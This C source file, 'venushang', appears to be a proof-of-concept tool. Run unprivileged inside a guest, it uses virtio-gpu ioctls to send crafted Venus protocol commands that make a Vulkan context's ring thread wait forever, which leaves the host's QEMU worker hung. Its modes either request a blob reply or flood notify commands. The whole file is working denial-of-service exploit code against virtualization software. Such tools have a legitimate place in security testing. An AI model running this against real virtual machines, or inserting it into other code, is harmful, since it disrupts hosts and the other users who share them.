/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * venushang: a program without privileges that has the worker of its Vulkan
 * context wait for ever, and then QEMU for that worker
 *
 *   venushang reply COUNT    in COUNT contexts: QEMU waits for the reply to a
 *                            blob's creation
 *   venushang room           QEMU waits until there is room for a command
 *
 * A ring's thread waits for a number that nobody sends it, and the worker's own
 * thread waits for the ring. The commands are Venus' protocol: each is its
 * number, flags, and its arguments, without padding.
 *
 * The user is nobody as soon as the devices are open. The answer, once all was
 * sent, is a line of JSON; the contexts are kept until a line is read.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#include <drm/drm.h>
#include <drm/virtgpu_drm.h>

#include "blobtool/blob.h"
#include "blobtool/tool.h"

#define NOBODY          65534
#define MOST_CONTEXTS   16
#define COMMANDS        1000    /* more than a socket holds */

#define RING_BYTES      (64u << 10)
#define RING_ID         1
#define IDLE_NS         1000000

/* In the ring's memory */
enum { HEAD = 0, TAIL = 64, STATUS = 128, BUFFER = 4096, EXTRA = 8192 };
enum { BUFFER_BYTES = 4096, EXTRA_BYTES = 64 };

/* The protocol's numbers of commands and structures */
enum {
    CREATE_RING = 188,
    NOTIFY_RING = 190,
    WAIT_VIRTQUEUE_SEQNO = 252,
    WAIT_RING_SEQNO = 253,
};
#define RING_CREATE_INFO    1000384000u

struct stream {
    uint8_t bytes[256];
    size_t used;
};

struct context {
    int gpu;
    struct blob ring;
};

static void put(struct stream *stream, const void *value, size_t bytes)
{
    memcpy(stream->bytes + stream->used, value, bytes);
    stream->used += bytes;
}

static void put32(struct stream *stream, uint32_t value)
{
    put(stream, &value, sizeof(value));
}

static void put64(struct stream *stream, uint64_t value)
{
    put(stream, &value, sizeof(value));
}

static struct stream command(uint32_t number)
{
    struct stream stream = { .used = 0 };

    put32(&stream, number);
    put32(&stream, 0);          /* no reply */
    return stream;
}

static void submit(int gpu, struct stream *stream)
{
    struct drm_virtgpu_execbuffer exec = {
        .size = stream->used,
        .command = (uintptr_t)stream->bytes,
    };

    if (ioctl(gpu, DRM_IOCTL_VIRTGPU_EXECBUFFER, &exec)) {
        die("sending a command: %s", strerror(errno));
    }
}

static uint32_t resource_of(struct context *context)
{
    struct drm_virtgpu_resource_info info = {
        .bo_handle = context->ring.handle,
    };

    if (ioctl(context->gpu, DRM_IOCTL_VIRTGPU_RESOURCE_INFO, &info)) {
        die("asking for a resource: %s", strerror(errno));
    }
    return info.res_handle;
}

static void create_ring(struct context *context)
{
    struct stream create = command(CREATE_RING);

    put64(&create, RING_ID);
    put64(&create, 1);          /* there is a structure */
    put32(&create, RING_CREATE_INFO);
    put64(&create, 0);          /* and nothing behind it */
    put32(&create, 0);
    put32(&create, resource_of(context));
    put64(&create, 0);
    put64(&create, RING_BYTES);
    put64(&create, IDLE_NS);
    put64(&create, HEAD);
    put64(&create, TAIL);
    put64(&create, STATUS);
    put64(&create, BUFFER);
    put64(&create, BUFFER_BYTES);
    put64(&create, EXTRA);
    put64(&create, EXTRA_BYTES);
    submit(context->gpu, &create);
}

/* The ring's thread waits, then the worker's. */
static void hang(struct context *context)
{
    uint8_t *ring = (uint8_t *)context->ring.words;
    struct stream forever = command(WAIT_VIRTQUEUE_SEQNO);
    struct stream notify = command(NOTIFY_RING);
    struct stream wait = command(WAIT_RING_SEQNO);

    put64(&forever, UINT64_MAX);
    memcpy(ring + BUFFER, forever.bytes, forever.used);
    atomic_store((_Atomic uint32_t *)(ring + TAIL), (uint32_t)forever.used);

    put64(&notify, RING_ID);
    put32(&notify, 0);
    put32(&notify, 0);
    submit(context->gpu, &notify);

    put64(&wait, RING_ID);
    put64(&wait, forever.used);
    submit(context->gpu, &wait);
}

/* Does not wait for the device. */
static void ask_for_blob(struct context *context)
{
    struct drm_virtgpu_resource_create_blob create = {
        .blob_mem = options.mem,
        .blob_flags = options.flags,
        .size = PAGE,
    };

    if (ioctl(context->gpu, DRM_IOCTL_VIRTGPU_RESOURCE_CREATE_BLOB, &create)) {
        die("creating a blob: %s", strerror(errno));
    }
}

static void fill(struct context *context)
{
    for (int i = 0; i < COMMANDS; i++) {
        struct stream notify = command(NOTIFY_RING);

        put64(&notify, RING_ID);
        put32(&notify, 0);
        put32(&notify, 0);
        submit(context->gpu, &notify);
    }
}

int main(int argc, char **argv)
{
    static struct context contexts[MOST_CONTEXTS];
    bool reply = argc == 3 && !strcmp(argv[1], "reply");
    unsigned int count = 1;
    char line[16];

    if (reply) {
        count = small_number(argv[2], "COUNT", 1);
    }
    if ((!reply && (argc != 2 || strcmp(argv[1], "room"))) ||
        count > MOST_CONTEXTS) {
        fprintf(stderr, "usage: venushang reply COUNT | room\n");
        return 2;
    }
    for (unsigned int i = 0; i < count; i++) {
        contexts[i].gpu = open_gpu();
    }
    if (setresgid(NOBODY, NOBODY, NOBODY) ||
        setresuid(NOBODY, NOBODY, NOBODY)) {
        die("becoming nobody: %s", strerror(errno));
    }
    for (unsigned int i = 0; i < count; i++) {
        blob_open(contexts[i].gpu, &contexts[i].ring, RING_BYTES);
        memset(contexts[i].ring.words, 0, RING_BYTES);
        create_ring(&contexts[i]);
    }
    for (unsigned int i = 0; i < count; i++) {
        hang(&contexts[i]);
    }
    sleep(1);                   /* the threads get there */
    for (unsigned int i = 0; i < count; i++) {
        if (reply) {
            ask_for_blob(&contexts[i]);
        } else {
            fill(&contexts[i]);
        }
    }
    printf("{\"contexts\": %u}\n", count);
    fflush(stdout);
    return fgets(line, sizeof(line), stdin) ? 0 : 1;
}
